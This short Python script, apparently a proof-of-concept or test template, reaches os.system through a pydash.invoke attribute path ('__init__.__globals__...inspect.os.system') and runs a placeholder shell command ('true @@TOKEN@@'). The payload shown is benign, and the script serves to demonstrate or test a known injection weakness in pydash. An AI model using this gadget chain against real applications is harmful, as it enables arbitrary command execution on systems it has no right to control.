"""Start a harmless command through a deep path."""

import pydash

chain = pydash.chain([1, 2, 3])
path = "__init__.__globals__.pyd.helpers.inspect.os.system"
pydash.invoke(chain, path, "true @@TOKEN@@")
